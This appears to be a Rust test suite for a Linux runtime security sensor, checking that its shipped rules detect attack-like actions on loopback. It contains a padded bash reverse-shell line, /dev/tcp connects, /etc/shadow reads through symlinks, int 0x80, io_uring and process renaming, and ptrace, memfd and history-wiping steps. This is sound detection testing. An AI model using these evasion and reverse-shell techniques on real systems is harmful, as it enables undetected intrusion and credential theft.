//! Live test of the SHIPPED default rules (`rules/*.yaml`) in `vigil run`:
//! real processes trip "Shell spawned by server process" (a shell started by
//! a process named nginx), "Read sensitive file untrusted" (/etc/shadow read
//! by an unknown program), "Shell made an outbound connection" (bash's
//! /dev/tcp) and "Connection to common reverse-shell port" (perl connecting
//! to a listed port), each with the fields the rule's output names; and the
//! shadow read again around syscall tracepoints (a 32-bit `int 0x80` open and
//! an io_uring open), which must trip the same rule; through names that are
//! not its path (a symlink, a hard link, `/proc/self/root`, a bind mount of
//! /etc, a file handle) and by a process renamed `sshd`, which must too; and
//! padding past what the sensor copies (a 4 KB path, a 3 KB shell command
//! line), which must not hide anything. Needs root, BPF and BTF; skipped with
//! a message otherwise, unless VIGIL_REQUIRE_LIVE=1 (CI), which makes that a
//! failure.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::process::{Command, Stdio};

use common::evasion::{child_result, handle_open, open_read, padded_path, same_fs_dir};
use common::{copy_named, field, unique, Vigil};

/// The ports of the shipped `reverse_shell_ports` list, read from the rule
/// file (so the test follows the list rather than restating it).
fn reverse_shell_ports() -> Vec<u16> {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/00-lists.yaml"))
        .unwrap();
    let docs: Vec<serde_yaml_ng::Value> = serde_yaml_ng::from_str(&text).unwrap();
    let list = docs
        .iter()
        .find(|d| d["list"].as_str() == Some("reverse_shell_ports"))
        .expect("reverse_shell_ports list in rules/00-lists.yaml");
    list["items"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|p| p.as_u64().unwrap() as u16)
        .collect()
}

#[test]
fn shipped_rules_fire_on_live_attacks() {
    let Some(mut v) = Vigil::on_shipped_rules() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();

    // (a) a web server (bash named nginx) starts a shell as its child.
    let nginx = copy_named(dir.path(), "/bin/bash", "nginx");
    let marker = unique("m");
    let st = Command::new(&nginx)
        .args(["-c", &format!("sh -c 'id; true {marker}'; true")])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    let a = v
        .wait_alert(20, |a| {
            a["rule"] == "Shell spawned by server process"
                && field(a, "proc.cmdline")
                    .as_str()
                    .is_some_and(|c| c.contains(&marker))
        })
        .expect("shipped rule `Shell spawned by server process` for sh under nginx");
    assert_eq!(a["priority"], "Critical");
    assert_eq!(a["source"], "syscall");
    assert_eq!(field(&a, "proc.name"), "sh");
    assert_eq!(field(&a, "proc.pname"), "nginx");
    assert_eq!(field(&a, "evt.type"), "exec");
    assert!(
        a["output"]
            .as_str()
            .unwrap()
            .contains("shell=sh parent=nginx"),
        "{a}"
    );
    let tags: Vec<&str> = a["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(tags.contains(&"T1059.004"), "{tags:?}");

    // (b) /etc/shadow read by a program no list trusts.
    let name = unique("shr");
    let cat = copy_named(dir.path(), "/bin/cat", &name);
    let st = Command::new(&cat)
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    let a = v
        .wait_alert(20, |a| {
            a["rule"] == "Read sensitive file untrusted" && field(a, "proc.name") == name.as_str()
        })
        .expect("shipped rule `Read sensitive file untrusted` for the shadow read");
    assert_eq!(a["priority"], "Warning");
    assert_eq!(field(&a, "file.path"), "/etc/shadow");
    assert_eq!(field(&a, "proc.exe"), cat.to_str().unwrap());
    assert_eq!(field(&a, "evt.type"), "open");
    assert!(
        a["output"].as_str().unwrap().contains("file=/etc/shadow"),
        "{a}"
    );

    // (c) reverse-shell style connects to a loopback listener on a port of
    // the shipped reverse_shell_ports list (4444 unless taken).
    let ports = reverse_shell_ports();
    assert!(ports.contains(&4444), "{ports:?}");
    let listener = std::iter::once(&4444)
        .chain(ports.iter())
        .find_map(|p| TcpListener::bind(("127.0.0.1", *p)).ok())
        .expect("one of the reverse-shell ports is free on 127.0.0.1");
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        // Two clients: bash, then perl. Read what each sends until it closes.
        let mut got = Vec::new();
        for _ in 0..2 {
            let (mut s, _) = listener.accept().unwrap();
            let mut buf = String::new();
            let _ = s.read_to_string(&mut buf);
            got.push(buf);
        }
        got
    });

    // bash's /dev/tcp: the shell itself connects.
    let mut bash = Command::new("/bin/bash")
        .args([
            "-c",
            &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; exec 3>&-"),
        ])
        .spawn()
        .unwrap();
    let bash_pid = bash.id();
    assert!(bash.wait().unwrap().success());
    // perl (a listed reverse-shell client) connects to the same port.
    let mut perl = Command::new("perl")
        .args([
            "-MIO::Socket::INET",
            "-e",
            &format!(
                "my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1:{port}') or die $!; print $s \"perl\\n\"; close $s"
            ),
        ])
        .spawn()
        .expect("perl (perl-base) is installed");
    let perl_pid = perl.id();
    assert!(perl.wait().unwrap().success());
    let got = server.join().unwrap();
    assert_eq!(got, vec!["hi\n".to_string(), "perl\n".to_string()]);

    let a = v
        .wait_alert(20, |a| {
            a["rule"] == "Shell made an outbound connection"
                && field(a, "proc.pid").as_u64() == Some(bash_pid as u64)
        })
        .expect("shipped rule `Shell made an outbound connection` for bash /dev/tcp");
    assert_eq!(a["priority"], "Critical");
    assert_eq!(field(&a, "proc.name"), "bash");
    assert_eq!(field(&a, "net.dport").as_u64(), Some(port as u64));
    assert_eq!(field(&a, "net.daddr"), "127.0.0.1");
    assert_eq!(field(&a, "net.proto"), "tcp");
    assert_eq!(field(&a, "evt.type"), "connect");
    assert!(
        a["output"]
            .as_str()
            .unwrap()
            .contains(&format!("dest=127.0.0.1:{port}")),
        "{a}"
    );
    let a = v
        .wait_alert(20, |a| {
            a["rule"] == "Connection to common reverse-shell port"
                && field(a, "proc.pid").as_u64() == Some(perl_pid as u64)
        })
        .expect("shipped rule `Connection to common reverse-shell port` for perl");
    assert_eq!(a["priority"], "Warning");
    assert_eq!(field(&a, "proc.name"), "perl");
    assert_eq!(field(&a, "net.daddr"), "127.0.0.1");
    assert_eq!(field(&a, "net.dport").as_u64(), Some(port as u64));

    assert_eq!(v.stop(), Some(0), "SIGTERM exits 0");
}

/// /etc/shadow read around the syscall tracepoints that syscall-based sensors
/// rely on — an ia32 `int 0x80` open from a 64-bit process, and an
/// IORING_OP_OPENAT — trips the same shipped rule as a plain read.
#[test]
fn shipped_rules_see_shadow_reads_around_syscall_tracepoints() {
    let Some(mut v) = Vigil::on_shipped_rules() else {
        return;
    };
    let name = unique("evd");
    // A child (this test binary again, only `evasion_child`): vigil ignores
    // nothing of it, and the process and thread carry `name` as their comm.
    let res = child_result(
        "evasion_child",
        &[("VIGIL_EVASION_CHILD", &name)],
        "EVASION",
    );
    let (int80_fd, uring) = res.split_once(' ').unwrap();
    assert!(
        int80_fd.parse::<i64>().unwrap() >= 0,
        "int 0x80 open: {res}"
    );
    let shadow_read = |raw: &'static str| {
        let name = name.clone();
        move |a: &serde_json::Value| {
            a["rule"] == "Read sensitive file untrusted"
                && field(a, "proc.name") == name.as_str()
                && field(a, "file.path_raw") == raw
        }
    };
    let a = v
        .wait_alert(20, shadow_read("/etc/./shadow"))
        .expect("the rule fires on the int 0x80 open of /etc/./shadow");
    assert_eq!(field(&a, "file.path"), "/etc/shadow");
    if uring == "unsupported" {
        common::cannot_run("the io_uring part: io_uring is unavailable here");
    } else {
        assert!(uring.parse::<i64>().unwrap() >= 0, "io_uring open: {res}");
        // The ring's record carries the opened file's resolved path.
        let a = v
            .wait_alert(20, shadow_read("/etc/shadow"))
            .expect("the rule fires on the io_uring open of /etc/../etc/shadow");
        assert_eq!(field(&a, "file.path"), "/etc/shadow");
    }
    assert_eq!(v.stop(), Some(0));
}

/// The child side of `shipped_rules_see_shadow_reads_around_syscall_tracepoints`
/// (a no-op unless started with VIGIL_EVASION_CHILD): names itself, opens
/// /etc/./shadow with ia32 `open`, and /etc/../etc/shadow through io_uring.
#[test]
#[ignore = "child entry point: run by common::evasion::child_result, not a test"]
fn evasion_child() {
    let Ok(name) = std::env::var("VIGIL_EVASION_CHILD") else {
        return;
    };
    common::evasion::name_process(&name);
    let (fd, _) = common::evasion::int80_opens("/etc/./shadow");
    let uring = match common::evasion::uring_open("/etc/../etc/shadow") {
        Some(r) => r.to_string(),
        None => "unsupported".to_string(),
    };
    println!("EVASION {fd} {uring}");
}

/// A named alert predicate for [`wait_each`].
type AlertPred<'a> = (&'a str, &'a dyn Fn(&serde_json::Value) -> bool);

/// Collects alerts until each predicate has matched one (alerts arrive in
/// any order); returns them in the predicates' order, or panics naming the
/// ones that never matched.
fn wait_each(v: &Vigil, secs: u64, preds: &[AlertPred<'_>]) -> Vec<serde_json::Value> {
    let mut got: Vec<Option<serde_json::Value>> = vec![None; preds.len()];
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    while got.iter().any(Option::is_none) {
        let left = deadline
            .saturating_duration_since(std::time::Instant::now())
            .as_secs()
            .max(1);
        let hit = v.wait_alert(left, |a| {
            preds
                .iter()
                .zip(&got)
                .any(|((_, p), g)| g.is_none() && p(a))
        });
        let Some(a) = hit else { break };
        for (i, (_, p)) in preds.iter().enumerate() {
            if got[i].is_none() && p(&a) {
                got[i] = Some(a.clone());
            }
        }
        if std::time::Instant::now() > deadline {
            break;
        }
    }
    let missing: Vec<&str> = preds
        .iter()
        .zip(&got)
        .filter(|(_, g)| g.is_none())
        .map(|((n, _), _)| *n)
        .collect();
    assert!(missing.is_empty(), "no alert for: {missing:?}");
    got.into_iter().map(Option::unwrap).collect()
}

/// Padding past what the sensor copies: an open of `/etc/` + `./` x 2000 +
/// `shadow` (4,011 bytes; the raw path is cut at 1,023 and reads `/etc`)
/// still reads as /etc/shadow, and a shell whose command line hides a
/// payload after 3,000 spaces raises "Shell with truncated command line".
#[test]
fn shipped_rules_see_through_padding() {
    let Some(mut v) = Vigil::on_shipped_rules() else {
        return;
    };
    let name = unique("pad");
    let fd = child_result(
        "alias_child",
        &[("VIGIL_ALIAS_CHILD", &name), ("VIGIL_ALIAS_PADDED", "1")],
        "ALIAS",
    );
    assert!(fd.parse::<i64>().unwrap() >= 0, "padded open: {fd}");
    let payload = format!(
        "true {} # bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        " ".repeat(3000)
    );
    let mut bash = Command::new("/bin/bash")
        .args(["-c", &payload])
        .spawn()
        .unwrap();
    let bash_pid = bash.id() as u64;
    assert!(bash.wait().unwrap().success());
    let name2 = name.clone();
    let got = wait_each(
        &v,
        20,
        &[
            ("padded shadow read", &move |a: &serde_json::Value| {
                a["rule"] == "Read sensitive file untrusted"
                    && field(a, "proc.name") == name2.as_str()
            }),
            ("padded shell", &move |a: &serde_json::Value| {
                a["rule"] == "Shell with truncated command line"
                    && field(a, "proc.pid").as_u64() == Some(bash_pid)
            }),
        ],
    );
    let f = &got[0]["output_fields"];
    assert_eq!(f["file.path"], "/etc/shadow");
    assert_eq!(f["file.path_raw_truncated"], true);
    assert_eq!(f["file.path_truncated"], false);
    assert_eq!(
        f["file.path_lexical"], "/etc",
        "the cut raw path alone says /etc"
    );
    assert_eq!(got[1]["output_fields"]["proc.cmdline_truncated"], true);
    assert_eq!(v.stop(), Some(0));
}

/// /etc/shadow read through names that are not its path — a symlink, a hard
/// link, /proc/self/root, a bind mount of /etc, a file handle
/// (open_by_handle_at) — and by a process that renamed itself `sshd`
/// (prctl PR_SET_NAME, the comm of a trusted reader): each raises "Read
/// sensitive file untrusted" with file.path /etc/shadow.
#[test]
fn shipped_rules_see_shadow_through_its_aliases() {
    let Some(mut v) = Vigil::on_shipped_rules() else {
        return;
    };
    let base = same_fs_dir("/etc/shadow").expect("a writable directory on /etc's file system");
    let dir = tempfile::tempdir_in(&base).unwrap();
    let d = dir.path().to_str().unwrap().to_string();
    let name = unique("als");
    let res = child_result(
        "alias_child",
        &[("VIGIL_ALIAS_CHILD", &name), ("VIGIL_ALIAS_DIR", &d)],
        "ALIAS",
    );
    let r: Vec<i64> = res.split(' ').map(|x| x.parse().unwrap()).collect();
    let [pid, rest @ ..] = r.as_slice() else {
        panic!("{res}")
    };
    assert!(
        rest.iter().all(|fd| *fd >= 0),
        "symlink, hard link, /proc/self/root, handle, sshd: {res}"
    );
    // a bind mount of /etc, in a private mount namespace, read by a cat
    // named `bindname`
    let bindname = unique("bnd");
    let cat = copy_named(dir.path(), "/bin/cat", &bindname);
    let mnt = dir.path().join("m");
    std::fs::create_dir(&mnt).unwrap();
    let st = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(r#"mount --bind /etc "$1" && exec "$2" "$1/shadow""#)
        .args(["sh", mnt.to_str().unwrap(), cat.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "unshare + bind mount + cat");
    let shadow = |who: String, raw: String| {
        move |a: &serde_json::Value| {
            a["rule"] == "Read sensitive file untrusted"
                && field(a, "proc.name") == who.as_str()
                && field(a, "file.path_raw") == raw.as_str()
        }
    };
    let bind_raw = format!("{}/shadow", mnt.display());
    let pid = *pid as u64;
    let got = wait_each(
        &v,
        20,
        &[
            ("symlink", &shadow(name.clone(), format!("{d}/sl"))),
            ("hard link", &shadow(name.clone(), format!("{d}/hl"))),
            (
                "/proc/self/root",
                &shadow(name.clone(), "/proc/self/root/etc/shadow".into()),
            ),
            // a handle open has no path as passed: the resolved one stands for it
            (
                "open_by_handle_at",
                &shadow(name.clone(), "/etc/shadow".into()),
            ),
            ("bind mount", &shadow(bindname.clone(), bind_raw.clone())),
            ("renamed sshd", &move |a: &serde_json::Value| {
                a["rule"] == "Read sensitive file untrusted"
                    && field(a, "proc.name") == "sshd"
                    && field(a, "proc.pid").as_u64() == Some(pid)
            }),
        ],
    );
    for a in &got {
        assert_eq!(field(a, "file.path"), "/etc/shadow", "{a}");
    }
    assert_eq!(
        field(&got[0], "file.path_resolved"),
        "/etc/shadow",
        "a symlink resolves"
    );
    assert_eq!(
        field(&got[1], "file.path_resolved"),
        format!("{d}/hl").as_str(),
        "a hard link is named by identity"
    );
    assert_eq!(
        field(&got[4], "file.path_resolved"),
        bind_raw.as_str(),
        "a bind mount is named by identity"
    );
    assert_eq!(v.stop(), Some(0));
}

/// The child side of the alias and padding tests (a no-op unless started
/// with VIGIL_ALIAS_CHILD): names itself, then either opens the padded path
/// (VIGIL_ALIAS_PADDED), or reads /etc/shadow through a symlink and a hard
/// link in VIGIL_ALIAS_DIR, /proc/self/root and a file handle, then renames
/// itself `sshd` and reads it plainly; prints its pid and the results.
#[test]
#[ignore = "child entry point: run by common::evasion::child_result, not a test"]
fn alias_child() {
    let Ok(name) = std::env::var("VIGIL_ALIAS_CHILD") else {
        return;
    };
    common::evasion::name_process(&name);
    if std::env::var("VIGIL_ALIAS_PADDED").is_ok() {
        println!("ALIAS {}", open_read(&padded_path("/etc", "shadow", 2000)));
        return;
    }
    let dir = std::path::PathBuf::from(std::env::var("VIGIL_ALIAS_DIR").unwrap());
    std::os::unix::fs::symlink("/etc/shadow", dir.join("sl")).unwrap();
    std::fs::hard_link("/etc/shadow", dir.join("hl")).unwrap();
    let sl = open_read(dir.join("sl").to_str().unwrap());
    let hl = open_read(dir.join("hl").to_str().unwrap());
    // no copy of the password database left lying around
    std::fs::remove_file(dir.join("hl")).unwrap();
    let root = open_read("/proc/self/root/etc/shadow");
    let handle = handle_open("/etc", "/etc/shadow");
    common::evasion::name_process("sshd");
    let plain = open_read("/etc/shadow");
    println!(
        "ALIAS {} {sl} {hl} {root} {handle} {plain}",
        std::process::id()
    );
}

/// What `NEW_EVENTS_CHILD` does in `argv[1]` (a temp dir), `argv[2]` (a
/// directory name to create below /usr/local/bin) and with a TCP listener
/// on port `argv[3]`: each action the on-demand kinds reveal, once.
const NEW_EVENTS_CHILD: &str = r#"
import ctypes, os, signal, socket, struct, subprocess, sys, time
d, bindir, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
victim = subprocess.Popen(["sleep", "30"])
time.sleep(0.2)
libc.ptrace(16, victim.pid, 0, 0)
os.waitpid(victim.pid, 0)
libc.ptrace(17, victim.pid, 0, 0)
victim.kill()
victim.wait()
os.symlink("/etc/shadow", d + "/sl")
try:
    os.link("/etc/shadow", d + "/hl")
    os.unlink(d + "/hl")
except OSError:
    pass  # another file system: the refused attempt is reported too
open(d + "/f", "w").close()
os.chmod(d + "/f", 0o4755)
libc.ptrace(0, 0, 0, 0)
socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
libc.unshare(0x04000000)
ns = os.open("/proc/self/ns/uts", os.O_RDONLY)
libc.setns(ns, 0)
conn = socket.create_connection(("127.0.0.1", port))
os.dup2(conn.fileno(), 0)
insns = struct.pack("<BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0)
lic = ctypes.create_string_buffer(b"GPL")
ibuf = ctypes.create_string_buffer(insns)
attr = ctypes.create_string_buffer(struct.pack("<IIQQIIQII16s", 1, 2, ctypes.addressof(ibuf), ctypes.addressof(lic), 0, 0, 0, 0, 0, b"vgprog"), 128)
libc.syscall(321, 5, attr, 128)
os.mkdir(d + "/mnt")
libc.mount(b"vgtmp", (d + "/mnt").encode(), b"tmpfs", 0, None)
libc.umount2((d + "/mnt").encode(), 0)
os.mkdir(bindir)
os.rmdir(bindir)
with open(d + "/.bash_history", "a") as h:
    h.write("ls\n")
os.truncate(d + "/.bash_history", 0)
os.unlink(d + "/.bash_history")
os.memfd_create("vgfileless")
"#;

/// Through `vigil run` on the shipped rules, each of the 13 actions of issue
/// 11 (and the BPF load, mount and history truncation the later kinds
/// reveal) raises its alert about the acting process, from the new event
/// (evt.type), not from an exec or open it also did.
#[test]
fn shipped_rules_see_the_on_demand_kinds() {
    let Some(v) = Vigil::on_shipped_rules() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap().to_string();
    let bindir = format!("/usr/local/bin/.{}", unique("vgnew"));
    std::fs::create_dir_all("/usr/local/bin").unwrap();
    let srv = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = srv.local_addr().unwrap().port().to_string();
    let mut c = Command::new("/usr/bin/python3")
        .args(["-c", NEW_EVENTS_CHILD, &d, &bindir, &port])
        .spawn()
        .unwrap();
    let pid = c.id() as i64;
    let _conn = srv.accept().unwrap();
    assert!(c.wait().unwrap().success(), "the actions child failed");
    // an unprivileged userfaultfd (refused or not: the attempt is the signal)
    let st = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
        ])
        .arg("import ctypes\nctypes.CDLL(None).syscall(323, 0o2000000)")
        .status()
        .unwrap();
    assert!(st.success());
    // a non-root user asking for uid 0 (refused: the attempt is the signal)
    let st = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
        ])
        .arg("import os\ntry:\n    os.setuid(0)\nexcept PermissionError:\n    pass")
        .status()
        .unwrap();
    assert!(st.success());
    let by = |rule: &'static str, kind: &'static str| {
        move |a: &serde_json::Value| {
            a["rule"] == rule
                && field(a, "evt.type") == kind
                && (kind == "setuid" || field(a, "proc.pid").as_i64() == Some(pid))
        }
    };
    let link = by("Link to sensitive file", "symlink");
    let suid = by("Setuid or setgid bit set", "chmod");
    let traceme = by("PTRACE_TRACEME anti-debugging", "ptrace");
    let attach = by("Ptrace attached to another process", "ptrace");
    let packet = by("Packet socket created", "socket");
    let ns = by("Namespace change outside container runtime", "unshare");
    let bin = by("Binary directory modified by non-package-manager", "mkdir");
    let hist = by("Shell history deleted or renamed", "unlink");
    let memfd = by("Memfd created by shell or interpreter", "memfd");
    let setuid = |a: &serde_json::Value| {
        a["rule"] == "Setuid attempt by non-root user" && field(a, "proc.uid") == 65534
    };
    let hardlink = by("Link to sensitive file", "link");
    let setns = by("Namespace change outside container runtime", "setns");
    let dup = by("Stdio redirected to network connection", "dup");
    let uffd = |a: &serde_json::Value| {
        a["rule"] == "Unprivileged userfaultfd"
            && field(a, "evt.type") == "userfaultfd"
            && field(a, "proc.uid") == 65534
    };
    let bpf = by("BPF program loaded by unexpected process", "bpf");
    let mount = by("Mount by unexpected process", "mount");
    let trunc = by("Shell history truncated by path", "truncate");
    let got = wait_each(
        &v,
        30,
        &[
            ("symlink over /etc/shadow", &link),
            ("setuid bit", &suid),
            ("PTRACE_TRACEME", &traceme),
            ("AF_PACKET socket", &packet),
            ("unshare", &ns),
            ("mkdir below /usr/local/bin", &bin),
            ("history removed", &hist),
            ("memfd", &memfd),
            ("setuid(0) by nobody", &setuid),
            ("PTRACE_ATTACH", &attach),
            ("hard link to /etc/shadow", &hardlink),
            ("setns", &setns),
            ("stdin dup2'd onto a TCP connection", &dup),
            ("unprivileged userfaultfd", &uffd),
            ("BPF program load", &bpf),
            ("tmpfs mount", &mount),
            ("history truncated", &trunc),
        ],
    );
    assert_eq!(field(&got[10], "fs.source"), "/etc/shadow");
    assert_eq!(field(&got[12], "dup.newfd"), 0);
    assert_eq!(field(&got[12], "net.dport").to_string(), port);
    assert_eq!(
        field(&got[14], "bpf.prog_type"),
        "BPF_PROG_TYPE_SOCKET_FILTER"
    );
    assert_eq!(field(&got[14], "bpf.name"), "vgprog");
    assert_eq!(field(&got[15], "mount.fstype"), "tmpfs");
    assert_eq!(
        field(&got[16], "fs.path"),
        format!("{d}/.bash_history").as_str()
    );
    assert_eq!(field(&got[9], "ptrace.request"), "PTRACE_ATTACH");
    assert_eq!(field(&got[9], "ptrace.target_name"), "sleep");
    assert_eq!(field(&got[9], "evt.ret"), 0);
    assert_eq!(field(&got[0], "fs.source"), "/etc/shadow");
    assert_eq!(field(&got[0], "fs.path"), format!("{d}/sl").as_str());
    assert_eq!(field(&got[1], "fs.mode"), 0o4755);
    assert_eq!(field(&got[3], "socket.type"), "SOCK_RAW");
    assert_eq!(field(&got[4], "ns.types")[0], "uts");
    assert_eq!(field(&got[5], "fs.path"), bindir.as_str());
    assert_eq!(field(&got[7], "memfd.name"), "vgfileless");
    assert!(field(&got[8], "evt.ret").as_i64().unwrap() < 0, "refused");
}

/// A rule's "hidden file in D" prefix (`D/.`, as the shipped rules write for
/// /tmp, /var/tmp and /dev/shm) is a name prefix, not the directory D. The
/// identity scan once stat'ed `D/.` as D itself and renamed every open below
/// D to `D/./...`: with the shipped rules loaded, no rule on a /tmp path
/// matched.
#[test]
fn a_hidden_file_prefix_does_not_rename_opens_below_its_directory() {
    let d = tempfile::Builder::new()
        .prefix("vigil-ident")
        .tempdir()
        .unwrap();
    let root = d.path().to_str().unwrap().to_string();
    std::fs::create_dir_all(d.path().join("sub")).unwrap();
    let target = format!("{root}/sub/probe-file");
    std::fs::write(&target, "x").unwrap();
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("probe.yaml"),
        format!(
            "- rule: hidden file below root\n  desc: d\n  events: [open]\n  \
             condition: file.path.starts_with(\"{root}/.\")\n  output: o\n  priority: notice\n\
             - rule: probe\n  desc: d\n  events: [open]\n  \
             condition: proc.name == \"cat\" && file.path.ends_with(\"/probe-file\")\n  \
             output: \"probe {{file.path}}\"\n  priority: notice\n"
        ),
    )
    .unwrap();
    let Some(v) = Vigil::on_rules(rules.path().to_str().unwrap()) else {
        return;
    };
    let out = Command::new("cat").arg(&target).output().unwrap();
    assert!(out.status.success());
    let alert = v.wait_alert(10, |a| a["rule"] == "probe");
    let alert = alert.unwrap_or_else(|| panic!("no alert for cat {target}"));
    assert_eq!(
        alert["output_fields"]["file.path"], target,
        "the open was renamed below `{root}/.`"
    );
}
